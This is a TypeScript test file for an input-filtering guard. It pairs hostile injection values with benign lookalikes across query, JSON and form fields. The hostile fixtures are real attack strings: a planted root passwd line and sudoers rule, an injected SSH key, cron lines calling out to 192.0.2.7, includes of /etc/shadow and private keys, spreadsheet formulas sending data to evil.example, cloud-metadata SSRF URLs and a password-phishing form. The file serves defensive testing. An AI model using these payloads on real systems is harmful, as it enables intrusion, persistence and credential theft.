// What a value brings along that somebody behind the origin takes for his own: lines of a configuration or a protocol, a
// directive that takes in a file, a command that another language runs, a query or a record that is closed and goes on.
// Beside each the honest texts that look alike. At sensitivity 1, in a query, a leaf of JSON and a form.

import { describe, expect, test } from 'vitest'

import { refusing } from '../corpora/guard.ts'

const isRefused = refusing()

const PLACES = ['query', 'json', 'form']
const KEY = `AAAAB3NzaC1yc2E${'A'.repeat(24)}`

interface Decision {
  readonly hostile: readonly string[]
  readonly honest: readonly string[]
  /** Where the honest ones are asked; the hostile ones, too, where it says `only`. */
  readonly places?: readonly string[]
  readonly only?: boolean
}

const DECISIONS: Readonly<Record<string, Decision>> = {
  'a line of settings behind a value (CWE-93)': {
    hostile: [
      'avatar.png\nAddHandler application/x-httpd-php .png',
      'a\nSetHandler server-info',
      'b\r\nphp_value auto_append_file /srv/x',
      'web\nauto_prepend_file="php://input"',
      'prod\nLD_PRELOAD=/dev/shm/a.so',
      'a"\nprovisioner "local-exec" { command = "a" }',
      'vpn\nscript-security 2\nup "/bin/true"',
      'prod\nNODE_OPTIONS=--import=data:text/javascript,1',
      'web\nExecStartPost=/bin/true',
      'git.example.com\nProxyCommand nc %h 22',
      'x"\n[core]\n\tsshCommand = touch /tmp/a',
      `ann@laptop\nssh-rsa ${KEY} eve@laptop`,
      'daily\n*/5 * * * * curl 192.0.2.7',
      'daily\n@reboot /dev/shm/a',
      'ann\neve:x:0:0:root:/root:/bin/sh',
      'ann\neve ALL=(ALL:ALL) NOPASSWD:ALL',
      'cn\nchangetype: delete',
      '7\n*/5 * * * * root /bin/true',
      'ann\n<4>Jan  1 00:00:00 host su: opened',
      'ok\n\nevent: grant\ndata: {"role":"owner"}\n\n',
      'auto_prepend_file=/tmp/a.gif',
      'vim: set fdm=expr fde=assert_fails("a"):',
    ],
    honest: [
      'NODE_ENV=production\nLD_PRELOAD=/usr/lib/libjemalloc.so\nNODE_OPTIONS=--max-old-space-size=4096',
      '# crontab of the backup\n*/5 * * * * /usr/local/bin/backup',
      '[Unit]\nDescription=a service\n\n[Service]\nExecStart=/usr/bin/a',
      '<IfModule mod_mime.c>\n  AddType image/svg+xml .svg\n</IfModule>',
      'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin',
      'We set these options:\nExecStart and ExecStop, both of them.',
      'Milk\nEggs\nBread 2 1',
      'dn: cn=Ann,dc=example,dc=com\nchangetype: modify',
      'requests.ok:1|c\nrequests.failed:2|c',
      'Ann\nPath: the second on the left\nUser: ann',
      'app.log\n2026-01-31 10:00:00 INFO started\n2026-01-31 10:00:01 INFO ready',
      'Notes\n2026-01-31 call Ann',
      'Error\n[ERROR] could not connect',
      'Setup\nNODE_OPTIONS=--max-old-space-size=4096',
      'Delivery\nDN: 80012345\nPO: 4500',
      'Task\ncommand = build',
      'Example\n\nevent: push\ndata: a commit',
      'list\n<1>one</1>\n<2>two</2>',
      'append, prepend: file=a',
    ],
    places: ['json', 'form'],
  },
  'a command or a header of a neighbour that breaks its lines as HTTP does (CWE-93)': {
    hostile: [
      '42\r\nContact: <sip:eve@192.0.2.7>',
      'sip:100@pbx.example\r\nContact: <sip:eve@192.0.2.7>',
      'a\r\nINVITE sip:eve@192.0.2.7 SIP/2.0',
      'a SIP/2.0\r\nTo: <sip:eve@192.0.2.7>',
      'a\r\nDESCRIBE rtsp://192.0.2.7/cam RTSP/1.0',
      'a\r\nPUB jobs.run 4\r\nping\r\n',
      'a\r\nput 0 0 60 4\r\nping',
      'a\n* * * * * root whoami',
      'a\r\nPRIVMSG #ops :hello',
      'a\r\nRNFR /srv/a',
      '42\r\nAction: Originate\r\nChannel: Local/1',
      'a\r\nm=audio 9000 RTP/AVP 0',
      'photo.jpg"; filename="x.php"\r\n\r\nx',
      'photo.jpg"; name="admin"\r\n\r\ntrue',
      'Ann\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Eve',
      'a\u001b%-12345X@PJL INITIALIZE',
    ],
    honest: [
      'ACME Ltd\r\nPART 12\r\nSITE 4',
      'ok\r\nPUB at 8',
      'Friday\r\nPUB quiz night\r\nbring a friend',
      'Pump\r\nput 1 2 3 4',
      'Ann Lee\r\nOPER Manager',
      'Job\r\n0 9 * * 1 Standup',
      'Ausflug\r\nAttach: plan.pdf',
      'attachment; filename="a"; filename="b"\n',
      'Ann\r\nJoin us\r\nList: milk',
      'Ann Lee\r\nSIP 12 Street\r\nVia Roma 4',
      'BEGIN:VCARD\r\nFN:Ann\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Bob\r\nEND:VCARD',
      'BEGIN:VEVENT\r\nSUMMARY:Standup\r\nATTENDEE:mailto:ann@example.com\r\nEND:VEVENT',
      '2" pipe; name="left"',
      'The tag has a="1";name="b"\nand nothing else',
      'Content-Disposition: form-data; name="a"; filename="b.txt"',
      'Call me\r\nsip:ann@example.com',
    ],
    places: ['json', 'form'],
  },
  'a directive that takes in a file of the machine (CWE-98)': {
    hostile: [
      'include::/etc/shadow[tag=a]',
      '.. literalinclude:: /etc/passwd',
      '.. table:: a\n   :file: /etc/passwd',
      'importstr "/etc/passwd"',
      'local k = importstr "/root/.ssh/id_ed25519"; k',
      '#include "/etc/shadow"',
      '@import url("/etc/passwd");',
      '<img src="/etc/passwd">',
      '<annotation content="/etc/passwd" icon="Tag"/>',
      'digraph g { a [image="/etc/passwd"] }',
      '![a](file:///etc/passwd)',
      '[[!include /etc/passwd]]',
      '{ INCLUDETEXT "/etc/passwd" }',
      '.so /etc/passwd',
      '(slurp "/proc/self/environ")',
      '{{> /etc/passwd}}',
      '#+INCLUDE: "/etc/passwd" src text',
      '$ref: file:///etc/passwd',
      "push graphic-context\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context",
    ],
    honest: [
      'include::chapters/intro.adoc[]',
      '.. literalinclude:: ../examples/passwd.py',
      'importstr "./config.json"',
      '#include <sys/types.h>\n#include "etc/passwd.h"',
      'Users are listed in /etc/passwd, their hashes are not.',
      'permission denied: open "/etc/shadow"',
      'source: /etc/shadow\nmode: ro',
      'audit: name="/etc/passwd" inode=12 dev=fd:00',
      '<file path="/etc/passwd" owner="root"/>',
      'the mount "/etc/passwd" is read-only',
      'see [passwd](/etc/passwd)',
    ],
    places: ['json'],
  },
  'a command as a literal that some language runs (CWE-78)': {
    hostile: [
      "Process.run('whoami', [])",
      '(uiop:run-program "uname -a")',
      "@{[system 'whoami']}",
      "eval { system 'whoami' }",
      'Import["!whoami","Text"]',
      '"uname -a".!!',
      '"whoami" | getline u',
      "open(my $h, '-|', 'whoami')",
      'std::process::Command::new("whoami")',
      'do shell script "uname -a"',
      '[exec whoami]',
      '\\! whoami',
      '.shell whoami',
      '%x{whoami}',
      '%x[uname -a]',
      'usort(...$_POST);',
      "open(H, 'whoami|')",
      "set_error_handler('system')",
      "{{ lookup('pipe','whoami') }}",
      "marshal.loads(b'a')",
      '@eval\n@input\nclass A: pass',
      "spawn 'whoami'",
      'spawn "whoami"',
      '@groovy.transform.ASTTest(value={assert 1})',
      "'a'instanceof{[Symbol.hasInstance]:eval}",
      '-1+2+IMPORTXML("http://evil.example","//a")',
      'dyn.load("a.so")',
      '(.exec (Runtime/getRuntime) "a")',
      "new GroovyClassLoader().parseClass('a')",
      "new DirectoryIterator('glob:///*')",
      "new Imagick('vid:msl:/tmp/a*')",
      "echo(implode(scandir('.')))",
      "system(...)('a')",
      '[][`filter`][`constructor`]`a```',
      '[a for a in ()].gi_frame.f_builtins["open"]("a")',
      'package.loaded.os.execute"a"',
      '[read [open "|whoami"]]',
      '{{async}}{{groovy}}println(1){{/groovy}}{{/async}}',
      '$1:__proto__:then',
      '$1:constructor:constructor',
      '+IMPORTDATA("http://evil.example/?"&A1)',
      '{{ get_env(name="HOME") }}',
    ],
    honest: [
      'run "date" and "host" through the form',
      "We call it 'system' here",
      'Process.run("tests")',
      'the "id" field | the "name" field',
      '[open "the door"]',
      "exec 'date'",
      'system "time" is off by an hour',
      '%x[0]',
      'new "find" button',
      "sort(...items, 'name')",
      'docker ps shows nothing',
      'Run "less is more" campaign',
      'launch "time machine"',
      "Unix 'ls' explained",
      'it.run("php")',
      'The system "id" is unique',
      'Please run "ls -la" and paste the output',
      'Use "|-" to strip the newline',
      'usort(...$args);',
      'spl_autoload_register(function ($c) {});',
      'File.write("a", "b")',
      '}\n\nlocation /api {\n  proxy_pass http://app;\n}',
      'source("https://example.com/lib.R")',
      'load("model.RData")',
      '{{lookup map key}}',
      '@eval is a decorator of ours',
      '+A1+SUM(A2:A9)',
      '-1 + hyperlink("a")',
      'javascript and js: append()',
      "new Imagick('photo.jpg')",
      'new DirectoryIterator(__DIR__)',
      "symlink('a','b')",
      'dlopen("libfoo.so", RTLD_NOW)',
      's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
      'array_map(strlen(...), $names)',
      'echo(json_encode($items));',
      'The {{groovy}} placeholder',
      'a:b:c',
    ],
  },
  'a pattern of SPARQL that goes on, or an update (CWE-943)': {
    hostile: [
      'a") . ?who <http://e.example/pin> ?pin . } #',
      'http://e.example/a> ?p ?o . } ; CLEAR ALL #',
      'a> . ?s foaf:mbox ?m . <b',
      '"} ; LOAD <http://e.example/x.ttl> #',
      "a'} . ?s a ?class . #",
      'INSERT DATA { <a> <b> <c> }',
      'DROP SILENT GRAPH <http://e.example/g>',
    ],
    honest: [
      "what's ?a ?b ?c",
      'PREFIX foaf: <http://xmlns.com/foaf/0.1/> SELECT ?n WHERE { ?p foaf:name ?n . ?p foaf:mbox ?m }',
      'Clear all',
      'a="1"; clear all; b',
      'function f() {} clear all the caches',
      '}; load default settings',
      'drop all; clear all',
      'load <your own> file',
      'Create graph <name>',
      'Load <filename> into the table',
      'Removed <b>x</b>; clear all',
      "Ann's list: who? why? when?",
      'https://example.com/a?b=c ?d ?e',
    ],
  },
  'a stage or a search of its own behind a string (CWE-943)': {
    hostile: [
      'web" | rest /services/server/info',
      'web" | outputlookup owned.csv',
      "web' | inputlookup users",
      'web" | map search="search index=_audit"',
      'web" OR [search index=_audit | head 1',
      'a"} |= "b',
      'a"} | line_format "{{.x}}"',
      "a'; traverse * from V; --",
      "a'; create vertex V; --",
      "a'; let $x = select from V; return $x; --",
    ],
    honest: [
      '27" | rest of the frame',
      'the "left" | map of the town',
      'a 5" or [search the shop]',
      '6" | delete the old one',
      'sourcetype="web" [search index=a | fields user] | stats count by user',
      '{app="web"} |= "error" | line_format "{{.msg}}"',
      "rock'n'roll; traverse the Alps",
    ],
  },
  'an option of OData, or of Solr, that a value brings along (CWE-943)': {
    hostile: [
      '7)?$expand=Owner($select=Pin)',
      "Ann'&$filter=1 eq 1 or 'a' eq 'a",
      '7&$select=Pin',
      '{!join from=a to=b fromIndex=private}*:*',
      "{!xmlparser v='<a/>'}",
      'a* OR password:*',
      'a AND _exists_:api_key AND b:*',
      'a AND pin:[0 TO 4]',
      '1) { id } admin: user(id: 1',
      'a"}) { token } b: users(where: {c: "',
      'a&shards=192.0.2.7:8983/solr/a',
    ],
    honest: [
      'Orders?$top=5&$skip=10',
      'Orders(7)?$expand=Lines($select=Sku)',
      "$filter=Name eq 'Ann'&$orderby=Name",
      '{!geofilt sfield=store pt=45.1,-93.8 d=5}',
      '{!join from=id to=parent}name:a',
      '5 & $10',
      'name asc&$filter=id eq 1',
      'https://search.example.com/select?q=a&shards=s1',
      'a AND name:[a TO b]',
      'token:* is required',
      'a) {b}',
      'Insert data { name: 1 }',
      'foo(a: { b: "c" }) {\n  id\n}',
      'x) { return y }',
      '1) Select the item {a}',
    ],
  },
  'a record that is closed and goes on (CWE-91, CWE-74)': {
    hostile: [
      'Ann</owner><limit>9999</limit><owner>',
      'ann@example.com<!---->.evil.example',
      '<NameID>ann@example.com<!-- a -->.evil.example</NameID>',
      '<saml:NameID Format="a">ann<!-- a -->.evil</saml:NameID>',
      'Ann</owner></account><account><owner>Eve',
      ']]></note><limit>9</limit><note><![CDATA[',
    ],
    honest: [
      '</p><p>another paragraph</p><p>',
      '</li><li>two</li><li>three',
      'quote</cite><q>b</q><cite>x',
      '</seg><bpt>b</bpt><seg>',
      'a ]]]]><![CDATA[> b',
      'Hello <!-- --> world',
      'a<!-- -->b <b>c</b>',
      '<td>Total: 5<!-- -->px</td>',
      '<td>ann@example.com</td><!-- -->',
      'one</dd><dt>two</dt><dd>three',
      'Hallo</source><target>Hello</target><source>Welt',
      '<owner>Ann</owner><limit>5</limit>',
      '"a","b":"c"',
      'He said "yes", "no": all at once',
      '{"a":"b","c":"d',
    ],
  },
  // Not in a form: a document of JSON that is read as one, and cut where its strings have a `&`, looks the same.
  'a string of JSON that is closed, and a member put behind it (CWE-74)': {
    hostile: ['Ann","limit":9999,"a":"', 'Ann"},{"name":"Eve","role":"owner'],
    honest: ['5", "width": 4', 'He said "yes", "no": all at once', '"a","b":"c"'],
    places: ['query', 'json'],
    only: true,
  },
  'a form that asks for a password, and sends it away (CWE-79)': {
    hostile: [
      '<form action="https://evil.example/in" method="post"><input type="password" name="p"></form>',
      '<FORM ACTION=//evil.example><INPUT NAME=u><INPUT TYPE=PASSWORD NAME=p></FORM>',
    ],
    honest: [
      '<form action="https://shop.example/search"><input name=q></form> choose type=password for the field',
      '<form data-action="https://shop.example/in"><input type="password"></form>',
      '<form action="/search"><input type="text" name="q"></form>',
      '<form action="https://lists.example.com/subscribe" method="post"><input type="email" name="e"></form>',
    ],
  },
}

for (const [decision, { hostile, honest, places = PLACES, only = false }] of Object.entries(DECISIONS))
  describe(decision, () => {
    test.each(hostile)('is refused: %j', (text) => {
      expect((only ? places : PLACES).filter((place) => !isRefused(place, text))).toEqual([])
    })
    test.each(honest)('passes: %j', (text) => {
      expect(places.filter((place) => isRefused(place, text))).toEqual([])
    })
  })

describe('where a URL or a path leads, spelled otherwise', () => {
  test.each([
    // curl walks through what its globs say.
    'http://127.0.0.{1,2}:8080/',
    'http://{127.0.0.1,a}/',
    'http://169.254.169.25[4-5]/latest/',
    'http://{a,127.0.0.1}/',
    'http://1[0-2]7.0.0.1/',
    'http://10.[0-3].0.1/',
    'http://{a,b,c,d,e,f,g}.{h,i,j,k,127.0.0.1}/',
    '/static../app/settings.py',
    'dc=a,dc=example??sub?(|(cn=*)(pin=*))',
    '&w^h^o^a^m^i^ /a^l^l',
    // A compatibility mapping writes the leader out (UAX 15).
    '‥/‥/‥/etc/passwd',
  ])('is refused: %j', (text) => {
    expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
  })

  test.each([
    'https://{tenant}.example.com/{path}',
    'https://cdn.example.com/img[1-3].png',
    'https://api.{region}.example.com/',
    'https://{eu,us}.example.com/',
    'https://shard[1-8].example.com/',
    '/compare/v1.0...v1.1',
    'v1.0../v2',
    'The scope is ?sub? (see below)',
    'x^2 + y^ 2 & z^3 ^ 4',
    'つづく‥/‥おわり',
  ])('passes: %j', (text) => {
    expect(PLACES.filter((place) => isRefused(place, text))).toEqual([])
  })
})

describe('what is written as no command is, by anybody’s shell or database', () => {
  test.each([
    'index=web | stats count as n | eval pct=round(100*n/7,1)."%" | table pct',
    '=HYPERLINK("#Totals!B2","to the totals")',
    '{\n  id\n  name\n}',
    '<U1234|@cal> archived the channel',
    '<a xmlns:camunda="http://camunda.org/schema/1.0/bpmn"><camunda:script scriptFormat="groovy"/></a>',
  ])('passes: %j', (text) => {
    expect(isRefused('json', text)).toBe(false)
  })

  test.each([
    'a `\n+----+\n| whoami | # |\n+----+',
    'a | stats count | eval b="c whoami"',
    '=HYPERLINK("#", WEBSERVICE("http://evil.example/"))',
    '=HYPERLINK("#a"&CHAR(0)&"http://evil.example/","b")',
    '+----+----+\n| id | a  |\nwhoami',
    '1 and sleep(9 div 1)',
    '=HYPERLINK("#a",WEBSERVICE("http://evil.example"))',
    'a | stats count | eval b="%@$(id)"',
    '1 | eval $(id)',
    'sleep(9)',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '{\nid\n}',
    '{\nid\nreboot\n}',
    '<U1234|@whoami> a',
    '<a|@cal> b',
    '<a xmlns:b="http://www.w3.org/1999/xhtml"><b:script>alert(1)</b:script></a>',
    '<a xmlns:c="urn:x" xmlns:b="http://www.w3.org/2000/svg"><c:script>alert(1)</c:script></a>',
    '<c:script>alert(1)</c:script>',
  ])('is refused: %j', (text) => {
    expect(isRefused('json', text)).toBe(true)
  })
})
